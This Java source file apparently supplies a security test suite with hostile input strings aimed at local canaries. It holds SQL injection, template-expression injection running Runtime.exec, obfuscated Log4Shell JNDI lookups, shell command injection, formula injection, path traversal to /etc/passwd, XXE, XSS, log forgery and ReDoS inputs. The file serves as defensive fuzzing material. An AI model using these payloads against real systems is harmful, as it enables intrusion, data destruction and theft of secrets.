package io.dovetail.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.net.URI;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/** Texts that do harm where they are taken for something else than text. They lead to the canaries. */
final class Words {

    private final String address;
    private final String file;
    private final String nothing;

    Words(Canaries canaries) {
        this.address = "127.0.0.1:" + canaries.port();
        this.file = canaries.file().toString();
        this.nothing = canaries.nothing().toString();
    }

    List<String> all() {
        var all = new ArrayList<String>();
        all.addAll(sql());
        all.addAll(expressions());
        all.addAll(lookups());
        all.addAll(commands());
        all.addAll(paths());
        all.addAll(markup());
        all.addAll(characters());
        return all;
    }

    List<String> sql() {
        return List.of(
                "'; drop table canary; --",
                "'; delete from canary; --",
                "\"; update canary set text = ''; --",
                "1; truncate canary",
                "' or '1'='1",
                "' or 1=1 --",
                "\\'; drop table canary; --",
                "') ; drop table canary; --",
                "'||(delete from canary)||'",
                "$$; drop table canary; $$",
                "1 union select text from canary",
                "'; copy canary to '" + nothing + "'; --",
                "'; copy (select 1) to program 'touch " + nothing + "'; --",
                "pg_sleep(20)",
                "'||pg_sleep(20)||'",
                "'; select lo_export(0, '" + nothing + "'); --",
                "{\"$ne\": null}",
                "{\"$where\": \"sleep(20000)\"}",
                ":#canary",
                "?; drop table canary",
                "/*",
                "--",
                "%",
                "_",
                "E'\\x00'",
                "\\x27; drop table canary");
    }

    /** Of Camel, Spring, OGNL, Groovy, JSLT, jq and templates. */
    List<String> expressions() {
        var touch = "io.dovetail.hostile.Bait";
        return List.of(
                "${bean:type:" + touch + "?method=touch}",
                "${bean:type:" + touch + ".touch}",
                "${type:" + touch + "}",
                "#class:" + touch,
                "#type:" + touch,
                "#bean:canary",
                "class:" + touch,
                "bean:" + touch + "?method=touch",
                "${body.getClass().forName('" + touch + "')}",
                "${camelContext.class.forName('" + touch + "').newInstance()}",
                "${file:" + file + "}",
                "${resource:file:" + file + "}",
                "resource:file:" + file,
                "file:" + file,
                "${sys.user.home} ${env.PATH} ${env:HOME}",
                "{{env:PATH}} {{sys:user.home}} {{hub.secrets}} {{file:" + file + "}}",
                "RAW(a&b) RAW{x}",
                "T(" + touch + ").touch()",
                "#{T(" + touch + ").touch()}",
                "${T(java.lang.Runtime).getRuntime().exec('touch " + nothing + "')}",
                "#{T(java.lang.Runtime).getRuntime().exec('touch " + nothing + "')}",
                "*{T(java.lang.System).exit(1)}",
                "__${T(" + touch + ").touch()}__::x",
                "%{(#a=@" + touch + "@touch())}",
                "${@" + touch + "@touch()}",
                "${groovy:" + touch + ".touch()}",
                "${language:groovy:" + touch + ".touch()}",
                "${script:javascript:java.lang.Runtime.getRuntime().exec('touch " + nothing + "')}",
                "${joor:" + touch + ".touch()}",
                "!!" + touch + " []",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + address
                        + "/\"]]]]",
                "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"touch " + nothing + "\")}",
                "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('touch " + nothing
                        + "')",
                "{{7*7}}",
                "${7*7}",
                "#{7*7}",
                "<%= 7*7 %>",
                "{% import os %}",
                "kamelet:hub-trigger?workflow=x",
                "direct:translate",
                "toD:file:" + nothing,
                "exec:touch?args=" + nothing,
                "import \"" + file + "\" as x",
                "error(\"x\")",
                "def f(x) f($x) f(1)",
                ". | input_filename",
                "$ENV.PATH",
                "env | @sh",
                "jsonpath:$..*",
                "xpath:/x",
                "jslt:import");
    }

    /** Whatever makes somebody ask the network. */
    List<String> lookups() {
        var all = new ArrayList<String>();
        for (var scheme : List.of("ldap", "ldaps", "rmi", "dns", "iiop", "http")) {
            all.add("${jndi:" + scheme + "://" + address + "/a}");
        }
        all.add("${${lower:j}ndi:${lower:l}dap://" + address + "/a}");
        all.add("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://" + address + "/a}");
        all.add("${${env:NaN:-j}ndi${env:NaN:-:}ldap://" + address + "/a}");
        all.add("${jndi:ldap://" + address + "/${env:PATH}}");
        all.add("%24%7Bjndi:ldap://" + address + "/a%7D");
        all.add("\\u0024{jndi:ldap://" + address + "/a}");
        for (var scheme : List.of("http", "https", "ftp", "gopher", "jar:http", "netdoc", "jdbc:postgresql", "amqp")) {
            all.add(scheme + "://" + address + "/x");
        }
        all.add("http://user@" + address + "#@example.com/");
        all.add("//" + address + "/x");
        all.add("\\\\" + address + "\\share");
        all.add("https:" + address + "/x?httpMethod=GET");
        all.add("url('http://" + address + "/')");
        all.add("@import url(http://" + address + "/x.css);");
        return all;
    }

    List<String> commands() {
        return List.of(
                "; touch " + nothing,
                "| touch " + nothing,
                "`touch " + nothing + "`",
                "$(touch " + nothing + ")",
                "&& touch " + nothing + " &",
                "\n/bin/sh -c 'touch " + nothing + "'\n",
                "() { :;}; touch " + nothing,
                "-oProxyCommand=touch " + nothing,
                "=cmd|'/C calc'!A0",
                "@SUM(1+1)",
                "+1-1",
                "=HYPERLINK(\"http://" + address + "\")",
                base64(new Bait[0]),
                "rO0ABXQABHRlc3Q=",
                "{\"@type\":\"io.dovetail.hostile.Bait\"}",
                "{\"@class\":\"io.dovetail.hostile.Bait\"}",
                "[\"io.dovetail.hostile.Bait\",{}]");
    }

    List<String> paths() {
        return List.of(
                "../../../../../../../../etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "%2e%2e%2f%2e%2e%2f" + file,
                file,
                "file://" + file,
                "/dev/zero",
                "/dev/random",
                "/proc/self/environ",
                "....//....//",
                "..%c0%af..%c0%af",
                "a/../../b",
                "~root",
                "C:\\",
                "\\\\?\\",
                "hub.events::workflow",
                "#",
                "*",
                "hub.*",
                ">",
                "DLQ",
                "queue://x?a=b",
                "topic:x");
    }

    List<String> markup() {
        return List.of(
                "<script>alert(1)</script>",
                "\"><img src=http://" + address + "/x onerror=alert(1)>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://" + file + "\">]><x>&e;</x>",
                "]]>&e;<![CDATA[",
                "&lt;!ENTITY",
                "&#0;",
                "&#x1F;",
                "<?xml-stylesheet href=\"http://" + address + "/x.xsl\"?>",
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://" + file + "\"/>",
                "javascript:alert(1)",
                "[x](javascript:alert(1))",
                "<svg onload=alert(1)>",
                "--><!--",
                "{\"id\":\"x\",\"status\":\"accepted\"}",
                "\",\"status\":\"published\",\"x\":\"",
                "\\\",\\\"x\\\":\\\"",
                "null",
                "undefined",
                "NaN",
                "true",
                "-0",
                "1e999",
                "0x10",
                "01",
                "１２３",
                "__proto__",
                "constructor",
                "hasOwnProperty",
                "toString",
                "class",
                "@class",
                "$ref",
                "#/definitions",
                "%s%s%s%n%n%x",
                "{0}{1}",
                "$1 \\1",
                "%(x)s",
                "%p%n",
                "{}");
    }

    /** What a screen, a log, a database or a count of characters takes amiss. */
    List<String> characters() {
        return List.of(
                "\u0000",
                "a\u0000b",
                "\r\nforged-line HTTP/1.1 200 OK\r\n\r\n",
                "\nforged-line ERROR",
                "\rforged-line",
                "\u001B[2J\u001B[31mred",
                "\b\b\b",
                "\u0007",
                "\u007F",
                "\u0085",
                "\u2028forged\u2029",
                "\u200B",
                "\u202Egnp.exe",
                "\u2066x\u2069",
                "\uFEFF",
                "\uFFFE\uFFFF",
                "\uFFFD",
                "e\u0301\u00E9",
                "\u1E9E\u00DF",
                "I\u0130i\u0131",
                "\uD83D\uDCA5",
                "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                "\uDBFF\uDFFF",
                "\u0628\u0300".repeat(60),
                "a" + "\u0336".repeat(200),
                "\uFDFA".repeat(50),
                "　",
                "\u00A0",
                "\t\u000B\f",
                " ",
                "x".repeat(257),
                "x".repeat(5_000),
                "\uD83D\uDCA5".repeat(129));
    }

    /** What would cost somebody who looks at it with a careless pattern minutes or hours. */
    List<String> slow() {
        var n = 250_000;
        return List.of(
                "0".repeat(n) + "x",
                " ".repeat(n) + "x",
                "1" + " ".repeat(n) + "x",
                "9".repeat(n) + "x",
                "/a".repeat(n / 2) + "!",
                "A_".repeat(n / 2) + "!",
                "-".repeat(n),
                "a.".repeat(n / 2) + "@",
                "\t\n".repeat(n / 2) + "x",
                "2026-03-09T10:00:00." + "0".repeat(n));
    }

    URI somewhere() {
        return URI.create("http://" + address + "/x");
    }

    String file() {
        return file;
    }

    /** A serialised object of the bait's type, or as near as one gets without waking it here. */
    static byte[] serialised(Object object) {
        var out = new ByteArrayOutputStream();
        try (var objects = new ObjectOutputStream(out)) {
            objects.writeObject(object);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static String base64(Object object) {
        return Base64.getEncoder().encodeToString(serialised(object));
    }
}
